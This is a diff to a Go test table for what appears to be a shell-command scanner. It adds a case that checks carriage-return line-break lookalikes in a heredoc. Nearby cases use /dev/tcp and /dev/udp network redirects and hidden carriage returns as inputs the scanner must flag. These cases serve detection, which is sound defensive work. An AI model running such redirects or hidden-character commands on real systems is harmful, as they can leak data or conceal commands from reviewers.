@@ -150,6 +150,7 @@ var findingTests = []struct {
 	{"ls # \r hidden", []string{"1:6 parser.line_break_lookalike"}},
 	{"bash -c 'ls\u2028x'", []string{"1:12 parser.line_break_lookalike"}},
 	{"ls\r\n", nil},
+	{"cat <<EOF; echo \"a\rb\" \r x\nbody\rx\nEOF", []string{"1:23 parser.line_break_lookalike"}},
 	// redirects
 	{`ls > /dev/tcp/1.2.3.4/80`, []string{"1:6 redirect.network"}},
 	{`cat < /dev/udp/h/53`, []string{"1:7 redirect.network"}},
